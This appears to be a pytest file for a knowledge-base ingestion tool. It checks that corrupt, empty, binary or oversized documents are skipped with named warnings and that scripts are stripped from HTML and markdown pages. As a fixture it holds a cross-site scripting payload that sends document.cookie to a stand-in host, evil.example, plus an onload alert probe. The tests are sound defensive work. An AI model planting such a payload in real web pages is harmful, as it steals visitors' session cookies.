"""Knowledge faults: a bad document is skipped with a warning that names it; the rest is ingested.

Each case is a real file in a copy of the knowledge folder, ingested into a real Chroma
index with the real embedding model.
"""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pytest
from click.testing import CliRunner

from assistant.cli import cli
from assistant.config import Settings
from assistant.errors import KnowledgeError
from assistant.index import Index
from assistant.knowledge import load_chunks, load_document

SCRIPT = "<script>fetch('//evil.example/?c=' + document.cookie)</script>"


def _bad_files(folder: Path) -> dict[str, str]:
    """Write the faulty documents; return file name -> the words its warning must carry."""
    (folder / "bad-front-matter.md").write_text("---\ntitle: [unclosed\nexperts: {\n---\n# Title\n\nBody text.\n")
    (folder / "no-text.md").write_text("---\ntitle: Empty\n---\n\n   \n")
    (folder / "binary.md").write_bytes(bytes(range(256)) * 64)
    (folder / "nul-bytes.md").write_text("# Title\n\n" + "\x00" * 500 + "text\n")
    with (folder / "huge.md").open("w") as fh:  # 50 MB
        line = "Walking on a treadmill is a fine workout for most people. " * 10 + "\n"
        for _ in range(50_000_000 // len(line) + 1):
            fh.write(line)
    return {
        "bad-front-matter.md": "front matter",
        "no-text.md": "no text",
        "binary.md": "not UTF-8",
        "nul-bytes.md": "binary",
        "huge.md": "MB limit",
    }


@pytest.mark.slow
def test_bad_documents_are_skipped_by_name_and_the_rest_ingested(
    tmp_path, knowledge_copy: Path, embedder, caplog: pytest.LogCaptureFixture
) -> None:
    expected = _bad_files(knowledge_copy)
    (knowledge_copy / "page.html").write_text(
        f"<html><head>{SCRIPT}<style>body{{color:red}}</style></head><body onload=\"alert(1)\">"
        "<h1>Cool-down walks</h1><h2>Slow down</h2><p>End with five minutes of slow walking on the flat.</p>"
        f"{SCRIPT}</body></html>"
    )
    settings = Settings.load(knowledge_dir=knowledge_copy, index_dir=tmp_path / "index")
    with caplog.at_level(logging.WARNING):
        report = Index(settings).ingest(embedder, progress=False)
    warnings = " ".join(r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING)
    for name, why in expected.items():
        assert name in warnings, name
        assert any(name in s and why in s for s in report.skipped), (name, report.skipped)
    assert report.documents == 2  # the article and the HTML page
    _, chunks = load_chunks([knowledge_copy], settings.chunk_size, max_bytes=settings.max_document_mb * 10**6)
    assert any("five minutes of slow walking" in c.text for c in chunks)
    assert any("Glute Bridge" in c.section for c in chunks)
    assert not any("document.cookie" in c.text or "alert" in c.text or "color:red" in c.text for c in chunks)
    assert report.chunks == len(chunks) == len(Index(settings).open().ids())


def test_scripts_in_a_markdown_file_are_left_out_with_a_warning(tmp_path, caplog) -> None:
    doc = tmp_path / "with-script.md"
    doc.write_text(f"# Tips\n\n## Warm up\n\nWalk slowly first.\n\n{SCRIPT}\n\n<style>x{{}}</style>\n")
    with caplog.at_level(logging.WARNING):
        loaded = load_document(doc)
    assert "document.cookie" not in loaded.body and "Walk slowly first." in loaded.body
    assert any("with-script.md" in r.getMessage() for r in caplog.records)


def test_a_folder_of_only_bad_documents_is_one_clear_error(tmp_path) -> None:
    (tmp_path / "a.md").write_bytes(b"\xff\xfe\x00bin")
    (tmp_path / "b.md").write_text("---\ntitle: [x\n---\nbody")
    with pytest.raises(KnowledgeError, match="No usable documents") as err:
        load_chunks([tmp_path])
    assert "a.md" in str(err.value) and "b.md" in str(err.value)


def test_ingest_on_the_command_line_reports_what_it_skipped(tmp_path, monkeypatch, knowledge_copy) -> None:
    (knowledge_copy / "binary.md").write_bytes(b"\x00\x01\x02PK\x03\x04" * 100)
    monkeypatch.setenv("ASSISTANT_INDEX_DIR", str(tmp_path / "idx"))
    result = CliRunner().invoke(cli, ["ingest", "--json", str(knowledge_copy)])
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert len(report["skipped"]) == 1 and "binary.md" in report["skipped"][0]
    assert report["chunks"] > 0
